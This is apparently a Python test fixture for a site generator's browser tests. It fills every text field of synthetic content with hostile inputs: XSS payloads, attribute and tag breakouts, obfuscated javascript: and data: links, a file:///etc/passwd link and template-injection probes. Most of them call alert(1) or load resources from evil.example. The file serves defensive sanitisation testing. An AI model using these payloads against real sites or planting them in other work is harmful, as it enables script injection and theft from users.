"""A content whose every text tries to run, to load something or to break out of its place.

Whatever of it acts calls `alert`, asks `evil.example` for something, or lets an element appear
that no template has.
"""

from collections.abc import Mapping
from typing import Any

from tests.browser.sites import Content, Record

RUN = "alert(1)"
ELSEWHERE = "https://evil.example"
TAGS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt src={ELSEWHERE}/x.js></ScRiPt>",
    f"<img src=x onerror={RUN}>",
    f"<img src={ELSEWHERE}/x.png>",
    f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe><iframe src={ELSEWHERE}></iframe>",
    f"<object data={ELSEWHERE}/x.swf></object><embed src={ELSEWHERE}/x>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css><link rel=preload href={ELSEWHERE} as=font>",
    f"<style>@import '{ELSEWHERE}/x.css'; * {{ background: url({ELSEWHERE}/x) }}</style>",
    f"<p style='background:url({ELSEWHERE}/x)' onclick={RUN} onmouseover={RUN}>x</p>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'><base href={ELSEWHERE}>",
    f"<form action={ELSEWHERE}><input autofocus onfocus={RUN} name=q><button>x</button></form>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<video><source onerror={RUN}></video><audio src={ELSEWHERE}/x autoplay></audio>",
    f"<body onload={RUN}></body><marquee onstart={RUN}>x</marquee>",
    f"<input type=image src=x onerror={RUN}><isindex type=image src=1 onerror={RUN}>",
    f"<a href='javascript:{RUN}' id=x autofocus onfocus={RUN} tabindex=0>x</a>",
    f"<template><script>{RUN}</script></template><x-y onfocus={RUN} autofocus tabindex=1>",
    f"<textarea></textarea><img src=x onerror={RUN}></title></style></textarea></script>",
    f"--><script>{RUN}</script><!-- ]]><script>{RUN}</script>",
    f"<!--><img src=x onerror={RUN}>--><![CDATA[<img src=x onerror={RUN}>]]>",
    f"<form id=forms><input name=attributes><img name=body src={ELSEWHERE}>",
)
BREAKOUTS = (
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" autofocus onfocus={RUN} x="',
    f"' autofocus onfocus={RUN} x='",
    f"` onfocus={RUN} x=`",
    f"</title><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f'"];{RUN};//',
    f"'];{RUN};//",
    f'\\"];{RUN};//',
    f"${{{RUN}}}",
    f"</a></li></ul></main></body><img src=x onerror={RUN}>",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    f"</svg><script>{RUN}</script>]]></title>",
)
LINKS = tuple(
    f"[x]({address}) ![x]({address}) [y][r]\n\n"
    f"[r]: {address} 'a\" onmouseover={RUN} \"'\n\n<{address}>"
    for address in (
        f"javascript:{RUN}",
        f"JaVaScRiPt:{RUN}",
        f"java&#x0A;script:{RUN}",
        f"java&Tab;script:{RUN}",
        f"&#x6A;avascript:{RUN}",
        f"\\x01javascript:{RUN}",
        f"javascript&colon;{RUN}",
        f"javascript://example.org/%0A{RUN}",
        "vbscript:msgbox(1)",
        f"data:text/html,<script>{RUN}</script>",
        "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
        f'{ELSEWHERE}/x.png" onerror="{RUN}',
        "//evil.example/x.png",
        "x:alert(1)",
        "blob:https://evil.example/x",
        "file:///etc/passwd",
    )
)
MARKDOWN = (
    f"**<img src=x onerror={RUN}>** `<script>{RUN}</script>`",
    f"```html\n<script>{RUN}</script>\n```\n\n    <img src=x onerror={RUN}>",
    f"| <script>{RUN}</script> | `|` |\n|---|---|\n| ![x]({ELSEWHERE}/x.png) | x |",
    f"1. <b onclick={RUN}>\n\n   > <iframe src={ELSEWHERE}>\n\n# <b> {{: onclick={RUN} }}",
    f'[x](http://a?"onmouseover={RUN}//) [<img src=x onerror={RUN}>](x) [`](a)<b>`',
    f'![](x "></p><img src=x onerror={RUN}>") <https://a"onclick="{RUN}>',
    "\x02amp\x03 \u0002wzxhzdk:0\u0003 \ufdd0 [a]: <javascript:alert(1)>\n\n[a]",
)
TEMPLATES = (
    "{{ 7*7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ page }} {{ self }} {# x #} {%- raw -%} ${7*7} <%= 7*7 %> #{7*7}",
    "{0.__class__} {place} {count} %(x)s %s {} {{}}",
    "$$x$$ @import url(x) </style><style>*{display:none}</style>",
)
PAYLOADS = (*TAGS, *BREAKOUTS, *LINKS, *MARKDOWN, *TEMPLATES)
CLEAN = str.maketrans({"\x02": "?", "\x03": "?", "\ufdd0": "?"})
"""Controls and noncharacters never get as far as a page: such a file is refused."""


class _Texts:
    """Payloads one after the other, so that each comes into many kinds of places."""

    def __init__(self, start: int) -> None:
        self._next = start

    def text(self) -> dict[str, str]:
        return {code: self.plain() for code in ("fr", "en")}

    def plain(self) -> str:
        self._next += 1
        return PAYLOADS[self._next % len(PAYLOADS)].translate(CLEAN)


VALUES = ("v1", "v2", "v3")
CLIENTELES = ("c1", "c2")


def hostile(start: int = 0) -> Content:
    """One project for each payload, in every text that the format has."""
    texts = _Texts(start)
    text, plain = texts.text, texts.plain
    credit = {"provenance": "published", "source": None}
    records: dict[str, Record] = {
        "rubrics/r": {
            "name": text(),
            "description": text(),
            "levels": [
                {"points": points, "name": text(), "definition": text()}
                for points in (0, 1, 3, 5)
            ],
            **_credited(credit, texts),
        }
    }
    for name in VALUES:
        levels = {str(points): text() for points in (1, 5)}
        about = {"name": text(), "definition": text(), "levels": levels}
        records[f"values/{name}"] = {**about, **_credited(credit, texts)}
    for name in CLIENTELES:
        records[f"clienteles/{name}"] = {
            **{"name": text(), "description": text(), "edition": plain(), "rubric": "r"},
            "weights": {"kind": "declared", "note": text()},
            "pyramid": [
                {"value": value, "weight": weight}
                for value, weight in zip(VALUES, (50, 30, 20), strict=True)
            ],
            **_credited(credit, texts),
        }
    for number in range(len(PAYLOADS)):
        records[f"projects/p{number:03}"] = _project(number, texts)
    settings = {
        "format": 1,
        "languages": ["fr", "en"],
        **{key: text() for key in ("title", "summary", "notice", "source")},
        "repository": {
            "url": f"https://example.org/\"><script>{RUN}</script>/'onclick={RUN}",
            "branch": f'x"><img/src=x/onerror={RUN}>',
        },
        "url": f'https://example.org/"><script>{RUN}</script>/',
    }
    return Content(settings, records)


def _credited(credit: Mapping[str, Any], texts: _Texts) -> Record:
    return {**credit, "source": texts.text()}


def _project(number: int, texts: _Texts) -> Record:
    text = texts.text
    rated = {
        "rated": "2026-01-15",
        "raters": [text(), text()],
        "note": text(),
        "ratings": {
            "v1": {"points": 5, "why": text(), "evidence": [text(), text()]},
            "v2": {"not_applicable": text()},
            "v3": (None, 1)[number % 2],
        },
    }
    first, second = texts.plain(), texts.plain()
    several = {
        "rule": "median",
        "raters": [first, second],
        "ratings": {
            "v1": {"by_rater": {first: {"points": 5, "why": text()}, second: 0}, "why": text()},
            "v2": {"by_rater": {first: 1, second: {"points": 3, "why": text()}}},
            "v3": 1,
        },
    }
    other = (
        {"not_concerned": text()},
        {"published": 68, "source": text()},
        several,
    )[number % 3]
    return {
        **{key: text() for key in ("title", "summary", "description", "baseline", "source")},
        "provenance": "published",
        "feasibility": ("feasible", "not_feasible")[number % 3 == 0],
        "scorecards": {"c1": rated, "c2": other},
    }
